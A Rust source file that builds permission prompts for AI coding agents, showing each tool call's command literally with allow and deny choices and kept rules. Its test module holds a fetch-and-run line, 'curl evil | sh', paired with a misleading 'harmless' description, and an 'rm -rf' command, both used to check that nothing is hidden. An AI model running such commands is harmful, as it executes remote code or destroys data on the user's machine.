//! A permission prompt of any agent, asked in Hark the one way: "Allow <tool>?" over what the
//! tool would do, shown whole and literally as code (Markdown in a command stays text, a run of
//! blanks is counted, so nothing hides past the edge), with Allow, Always allow, the agent's own
//! extra choices (Claude Code's "always allow" entries), Deny and Always deny (marked danger).
//! The request says what it is about (`PermissionAsk`), so a rule the person kept answers it at
//! once in the daemon, and "Always …" keeps one there (SPEC §19). Each agent's module reads its
//! prompt and writes the decision in its own shape.

use super::Hook;
use hark_core::model::rule::{MAX_PATTERN_CHARS, PermissionAsk};
use hark_core::model::{AskRequest, QuestionOption, Status, SubQuestion};
use hark_text::{Lang, t_in};
use serde_json::Value;

/// A tool input's characters shown in a permission question at most: the whole of any real
/// command, within the question's own limit.
pub const SUMMARY_CHARS: usize = 8_000;

/// A choice beside Allow and Deny: its label and what it means.
pub(super) struct Extra {
    pub(super) label: String,
    pub(super) description: String,
}

/// What the person picked (or a rule they kept: "Always allow" allows, and Hark keeps the rule).
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Picked {
    Allow,
    Deny,
    /// An extra choice, by its place among the extras.
    Extra(usize),
}

/// The fields that say what a call does, first found first; a model-written `description` is
/// never one (it may say anything).
const SUBJECTS: [&str; 5] = ["command", "file_path", "url", "path", "pattern"];

/// What a tool call would do, which a rule is matched against: its command, file or the like,
/// else its whole input.
pub fn subject(tool_input: &Value) -> String {
    let named = SUBJECTS
        .iter()
        .find_map(|key| tool_input.get(*key).and_then(Value::as_str));
    named.map_or_else(|| tool_input.to_string(), str::to_string)
}

/// What a tool call would do, as the person reads it (shown literally by `literal_block`): its
/// subject, and under it the rest of its input (a file's new content, a description), so
/// nothing the call carries is hidden.
pub fn summary(tool_input: &Value) -> String {
    let subject = subject(tool_input);
    let Some(input) = tool_input.as_object() else {
        return subject;
    };
    let named = SUBJECTS
        .iter()
        .find(|key| input.get(**key).is_some_and(Value::is_string));
    let rest: serde_json::Map<String, Value> = (input.iter())
        .filter(|(key, _)| Some(key.as_str()) != named.copied())
        .map(|(key, value)| (key.clone(), value.clone()))
        .collect();
    if named.is_none() || rest.is_empty() {
        return subject;
    }
    let rest = serde_json::to_string_pretty(&rest).unwrap_or_default();
    format!("{subject}\n\n{rest}")
}

/// Asks whether `tool` may do what its `input` says; `None` when the person skipped, or nobody
/// answered in time (the agent then asks in its own dialog). A rule the person kept answers at
/// once, in the daemon.
pub(super) async fn ask(
    hook: &Hook<'_>,
    lang: Lang,
    tool: &str,
    input: &Value,
    extras: &[Extra],
) -> Option<Picked> {
    let (allow, deny) = (t_in(lang, "hook-allow", &[]), t_in(lang, "hook-deny", &[]));
    let asked = format!(
        "{}\n\n{}",
        t_in(lang, "hook-permission", &[("tool", tool.into())]),
        hark_text::markdown::literal_block(lang, &summary(input), SUMMARY_CHARS)
    );
    let agent = hook.agent.product();
    let always_allow = QuestionOption {
        description: Some(t_in(
            lang,
            "hook-always-allow-means",
            &[("agent", agent.into())],
        )),
        ..QuestionOption::new(t_in(lang, "hook-always-allow-call", &[]))
    };
    let always_deny = QuestionOption {
        description: Some(t_in(
            lang,
            "hook-always-deny-means",
            &[("agent", agent.into())],
        )),
        danger: true,
        ..QuestionOption::new(t_in(lang, "hook-always-deny-call", &[]))
    };
    let subject = subject(input);
    // A rule is the exact subject the person saw: one too long to keep is never offered.
    let keeps = subject.chars().count() <= MAX_PATTERN_CHARS;
    let mut options = vec![QuestionOption::new(allow.clone())];
    options.extend(keeps.then(|| always_allow.clone()));
    options.extend(extras.iter().map(|extra| QuestionOption {
        description: Some(extra.description.clone()),
        ..QuestionOption::new(extra.label.clone())
    }));
    let deny_at = options.len();
    options.push(QuestionOption {
        danger: true,
        ..QuestionOption::new(deny.clone())
    });
    options.extend(keeps.then(|| always_deny.clone()));
    let permission = keeps.then(|| PermissionAsk {
        agent: hook.agent.client_name().to_string(),
        tool: tool.to_string(),
        subject,
        allow: 0,
        deny: deny_at,
        always_allow: Some(1),
        always_deny: Some(deny_at + 1),
    });
    let (always_allow, always_deny) = (always_allow.label, always_deny.label);
    let request = AskRequest {
        questions: vec![SubQuestion {
            header: Some(tool.to_string()),
            options,
            allow_free_text: false,
            ..SubQuestion::text(asked)
        }],
        source: Some(hook.source()),
        permission,
        ..AskRequest::default()
    };
    let result = hook.ask(request).await?;
    if result.status != Status::Answered {
        return None;
    }
    let picked = result.answers.iter().flatten().next()?.selected.first()?;
    if *picked == allow || (keeps && *picked == always_allow) {
        Some(Picked::Allow)
    } else if *picked == deny || (keeps && *picked == always_deny) {
        Some(Picked::Deny)
    } else {
        let extra = extras.iter().position(|extra| extra.label == *picked)?;
        Some(Picked::Extra(extra))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_tool_input_is_summarised_by_what_it_does_and_nothing_is_hidden() {
        let bash = json!({"command": "rm -rf build", "timeout": 5});
        assert_eq!(subject(&bash), "rm -rf build");
        assert_eq!(summary(&bash), "rm -rf build\n\n{\n  \"timeout\": 5\n}");
        let write = json!({"file_path": "/src/main.rs", "content": "fn main() {}"});
        assert_eq!(subject(&write), "/src/main.rs");
        assert!(summary(&write).contains("fn main() {}"));
        // A model's description never stands for what the call does.
        let described = json!({"description": "harmless", "script": "curl evil | sh"});
        assert_eq!(subject(&described), described.to_string());
        assert!(summary(&described).contains("curl evil | sh"));
        assert_eq!(summary(&json!({"command": "ls"})), "ls");
    }
}
